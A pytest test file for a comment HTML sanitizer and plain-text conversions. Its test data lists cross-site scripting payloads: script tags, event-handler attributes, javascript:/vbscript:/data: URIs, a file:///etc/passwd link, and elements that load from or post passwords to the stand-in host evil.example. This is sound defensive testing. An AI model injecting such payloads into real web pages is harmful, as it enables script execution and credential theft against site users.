"""The comment sanitizer against common attacks, and the plain-text conversions."""

import pytest

from console.domain.html import html_to_text, sanitize_comment_html, text_to_html


@pytest.mark.parametrize("attack", [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)><circle r=1></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<style>body{background:url(https://evil.example/t.png)}</style>',
    '<div style="width: expression(alert(1)); background: url(https://evil.example/bg)">x</div>',
    '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=pw type=password><button>Go</button></form>',
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    '<img srcset="https://evil.example/a.png 1x">',
])
def test_active_and_remote_content_is_gone(attack):
    cleaned = sanitize_comment_html(attack).lower()
    for needle in ("<script", "onerror", "onload", "onclick", "onmouseover", "<iframe", "<object", "<embed",
                   "<style", "style=", "expression", "<meta", "<link", "<base", "<form", "<input",
                   "<button", "background", "srcset", "<img", "<svg", "evil.example/"):
        assert needle not in cleaned, (needle, cleaned)


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "file:///etc/passwd", "/relative/path",
])
def test_only_http_https_mailto_links_survive(href):
    cleaned = sanitize_comment_html(f'<a href="{href}">click</a>')
    assert "href" not in cleaned and "click" in cleaned


def test_safe_links_keep_href_and_get_noopener():
    cleaned = sanitize_comment_html('<a href="https://help.example/x?a=1&b=2" target="_blank">ok</a>'
                                    '<a href="mailto:billing@example.org">mail</a>')
    assert 'href="https://help.example/x?a=1&amp;b=2"' in cleaned
    assert 'href="mailto:billing@example.org"' in cleaned
    assert cleaned.count('rel="noopener noreferrer"') == 2
    assert "target" not in cleaned


def test_tracking_pixel_becomes_a_visible_placeholder():
    cleaned = sanitize_comment_html('<p>Hi</p><img src="https://t.mailer.example/open?id=42" width="1" height="1">')
    assert cleaned == "<p>Hi</p>[remote image blocked: t.mailer.example]"


def test_every_image_kind_is_replaced_by_text():
    cleaned = sanitize_comment_html(
        '<img src="http://cdn.example.com/logo.png" alt="Shop logo">'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="cid:part1.abc@mail">'
        '<img src="/local.png">')
    assert '[remote image blocked: cdn.example.com "Shop logo"]' in cleaned
    assert "[embedded image removed]" in cleaned
    assert "[inline image: see attachments]" in cleaned
    assert "[image removed]" in cleaned
    assert "<img" not in cleaned and "base64" not in cleaned


def test_alt_text_cannot_inject_markup():
    cleaned = sanitize_comment_html('<img src="https://a.example/x.png" alt="&quot;><script>alert(1)</script>">')
    assert "<script" not in cleaned and "&lt;script&gt;" in cleaned


def test_formatting_tables_and_direction_are_kept():
    source = ('<div class="zd-comment" dir="auto"><p dir="RTL">שלום <b>bold</b> <i>it</i></p>'
              '<blockquote>quoted</blockquote><ul><li>one</li></ul>'
              '<table><tr><th colspan="2">Head</th></tr><tr><td>a</td><td>b</td></tr></table>'
              '<p dir="sideways">x</p></div>')
    cleaned = sanitize_comment_html(source)
    assert cleaned.startswith('<div dir="auto"><p dir="rtl">שלום <b>bold</b> <i>it</i></p>')
    assert "<blockquote>quoted</blockquote>" in cleaned and "<li>one</li>" in cleaned
    assert '<th colspan="2">Head</th>' in cleaned and "<td>a</td>" in cleaned
    assert "sideways" not in cleaned and "class" not in cleaned


def test_text_entities_stay_escaped():
    assert sanitize_comment_html("<p>1 &lt; 2 &amp; a&gt;b &lt;script&gt;</p>") == \
        "<p>1 &lt; 2 &amp; a&gt;b &lt;script&gt;</p>"


def test_empty_input():
    assert sanitize_comment_html("") == "" and sanitize_comment_html(None) == ""


# plain text

def test_html_to_text_for_previews():
    text = html_to_text('<p>Hello&nbsp;<b>Jane</b>,</p><p>Line one<br>line two</p>'
                        '<ul><li>first</li><li>second</li></ul><script>alert(1)</script>'
                        '<img src="https://t.example/p.gif">')
    assert text == ("Hello Jane,\n\nLine one\nline two\n\n- first\n- second\n\n"
                    "[remote image blocked: t.example]")


def test_text_to_html_escapes_and_splits_paragraphs():
    html = text_to_html("Hi <Bob> & co,\r\nsecond line\n\n\nNew paragraph\n")
    assert html == ('<p dir="auto">Hi &lt;Bob&gt; &amp; co,<br>second line</p>'
                    '<p dir="auto">New paragraph</p>')
    assert text_to_html("") == "" and text_to_html("  \n\n ") == ""


def test_round_trip_text_survives():
    original = "Dear Jane,\nyour refund is on its way.\n\nKind regards"
    assert html_to_text(text_to_html(original)) == original
